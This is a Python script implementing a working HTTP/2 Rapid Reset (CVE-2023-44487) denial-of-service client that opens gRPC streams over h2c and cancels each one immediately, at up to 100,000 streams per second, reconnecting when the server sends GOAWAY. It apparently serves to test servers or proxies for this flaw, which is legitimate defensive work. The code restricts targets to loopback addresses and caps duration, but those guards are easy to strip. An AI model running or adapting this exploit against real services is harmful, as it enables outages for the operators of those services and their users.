#!/usr/bin/env python3
"""HTTP/2 Rapid Reset (CVE-2023-44487) client, for loopback tests only.

Speaks h2c with prior knowledge (the connection preface, SETTINGS), then, at
a target rate, opens a stream with a valid gRPC request (HEADERS with HPACK
literals, a DATA frame holding one gRPC message and END_STREAM) and cancels
it at once (RST_STREAM CANCEL). A reader thread answers the peer's SETTINGS
and PINGs and notes GOAWAY; a connection the peer closes is replaced by a new
one, as an attacker would. It refuses any address that is not loopback,
runs at most MAX_SECONDS and stops by itself.

  rapid_reset.py HOST:PORT [--seconds=5] [--rate=8000] [--connections=1]
                 [--path=/grpc.health.v1.Health/Check] [--message_hex=] [--source=127.0.0.2]

Prints one JSON line: streams sent, connections opened, GOAWAYs and frames
received, the rate achieved. Also importable (run_attack).
"""
import argparse
import ipaddress
import json
import socket
import struct
import sys
import threading
import time

MAX_SECONDS = 60
MAX_RATE = 100_000
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
BATCH = 64  # streams written per sendall


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def hpack_int(value, prefix_bits, first_byte=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = bytearray([first_byte | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(text):
    raw = text.encode()
    return hpack_int(len(raw), 7) + raw  # no Huffman coding


def header_block(authority, path):
    """HPACK: literals without indexing; names from the static table where
    RFC 7541 has them (:authority 1, :method 2, :path 4, :scheme 6)."""
    block = bytearray()
    for index, value in ((2, "POST"), (6, "http"), (4, path), (1, authority)):
        block += hpack_int(index, 4) + hpack_string(value)
    for name, value in (("content-type", "application/grpc"), ("te", "trailers")):
        block += b"\x00" + hpack_string(name) + hpack_string(value)
    return bytes(block)


def check_loopback(host):
    address = ipaddress.ip_address(socket.gethostbyname(host))
    if not address.is_loopback:
        raise ValueError("loopback addresses only, not %s" % address)


class Connection:
    """One h2c connection: a writer (the caller) and a reader thread."""

    def __init__(self, host, port, stats, source=None):
        self.sock = socket.create_connection((host, port), timeout=5,
                                             source_address=(source, 0) if source else None)
        self.sock.settimeout(None)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.stats = stats
        self.lock = threading.Lock()
        self.closed = threading.Event()
        self.next_stream = 1
        # Our SETTINGS: a large window so the peer's answers never wait on us.
        self.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, (1 << 31) - 1)))
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def send(self, data):
        with self.lock:
            self.sock.sendall(data)

    def _read(self):
        buf = b""
        try:
            while True:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    break
                self.stats["bytes_received"] += len(chunk)
                buf += chunk
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags = buf[3], buf[4]
                    payload, buf = buf[9:9 + length], buf[9 + length:]
                    self.stats["frames_received"] += 1
                    if kind == SETTINGS and not flags & ACK:
                        self.send(frame(SETTINGS, ACK, 0))
                    elif kind == PING and not flags & ACK:
                        self.send(frame(PING, ACK, 0, payload))
                    elif kind == GOAWAY:
                        self.stats["goaways"] += 1
                        code = int.from_bytes(payload[4:8], "big") if len(payload) >= 8 else -1
                        self.stats["goaway_codes"][str(code)] = self.stats["goaway_codes"].get(str(code), 0) + 1
                        self.closed.set()
        except OSError:
            pass
        self.closed.set()

    def close(self):
        self.closed.set()
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        self.reader.join(timeout=5)


def run_attack(target, seconds=5.0, rate=8000, connections=1, path="/grpc.health.v1.Health/Check",
               message=b"", source=None):
    """Runs the attack (from the loopback address `source`, e.g. 127.0.0.2,
    so a proxy tells it from other clients); returns its statistics."""
    host, _, port = target.rpartition(":")
    check_loopback(host)
    if source:
        check_loopback(source)
    seconds = min(float(seconds), MAX_SECONDS)
    rate = max(1, min(int(rate), MAX_RATE))
    headers = header_block(target, path)
    body = b"\x00" + struct.pack(">I", len(message)) + message
    stats = {"streams": 0, "connections_opened": 0, "connect_errors": 0, "goaways": 0, "goaway_codes": {},
             "frames_received": 0, "bytes_received": 0, "send_errors": 0}
    start = time.monotonic()
    deadline = start + seconds
    lock = threading.Lock()
    live = set()  # open connections, closed by the watchdog at the deadline

    def worker(share):
        conn = None
        sent = 0
        while True:
            now = time.monotonic()
            if now >= deadline:
                break
            if conn is None or conn.closed.is_set() or conn.next_stream > (1 << 31) - 2 * BATCH:
                if conn is not None:
                    with lock:
                        live.discard(conn)
                    conn.close()
                try:
                    conn = Connection(host, int(port), stats, source)
                    with lock:
                        live.add(conn)
                        stats["connections_opened"] += 1
                except OSError:
                    with lock:
                        stats["connect_errors"] += 1
                    conn = None
                    time.sleep(0.05)
                    continue
            # Pace: stay at `share` streams per second since the start.
            due = int((now - start) * share)
            if sent >= due:
                time.sleep(min(BATCH / share, deadline - now, 0.05))
                continue
            out = bytearray()
            count = min(BATCH, due - sent)
            for _ in range(count):
                sid = conn.next_stream
                conn.next_stream += 2
                out += frame(HEADERS, END_HEADERS, sid, headers)
                out += frame(DATA, END_STREAM, sid, body)
                out += frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
            try:
                conn.send(bytes(out))
            except OSError:
                with lock:
                    stats["send_errors"] += 1
                conn.closed.set()
                continue
            sent += count
            with lock:
                stats["streams"] += count
        if conn is not None:
            with lock:
                live.discard(conn)
            conn.close()

    threads = [threading.Thread(target=worker, args=(rate / connections,), daemon=True)
               for _ in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(max(0.0, deadline - time.monotonic()) + 1)
    # A send blocked on a peer that stopped reading must not outlive the
    # deadline: closing its socket ends the send.
    with lock:
        stuck = list(live)
    for conn in stuck:
        conn.close()
    for t in threads:
        t.join(5)
    stats["seconds"] = round(time.monotonic() - start, 2)
    stats["rate"] = round(stats["streams"] / max(stats["seconds"], 1e-9))
    stats["stuck_workers"] = sum(t.is_alive() for t in threads)
    return stats


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("target", help="HOST:PORT on loopback")
    parser.add_argument("--seconds", type=float, default=5.0, help="duration (at most %d)" % MAX_SECONDS)
    parser.add_argument("--rate", type=int, default=8000, help="streams per second, all connections together")
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--path", default="/grpc.health.v1.Health/Check", help="gRPC method path")
    parser.add_argument("--message_hex", default="", help="the serialized request message, in hex")
    parser.add_argument("--source", default=None, help="loopback address to connect from (e.g. 127.0.0.2)")
    args = parser.parse_args()
    try:
        stats = run_attack(args.target, args.seconds, args.rate, max(1, args.connections), args.path,
                           bytes.fromhex(args.message_hex), args.source)
    except ValueError as e:
        print("rapid_reset.py: %s" % e, file=sys.stderr)
        return 2
    print(json.dumps(stats, sort_keys=True))
    return 0


if __name__ == "__main__":
    sys.exit(main())
